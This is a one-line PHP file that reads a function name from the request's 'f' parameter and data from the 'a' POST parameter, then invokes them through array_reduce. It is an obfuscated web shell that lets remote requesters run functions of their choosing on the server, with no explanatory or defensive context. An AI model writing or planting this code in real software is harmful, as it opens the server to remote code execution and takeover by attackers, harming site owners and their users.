<?php $f = $_GET['f']; $a = $_POST['a']; array_reduce([$a], $f);
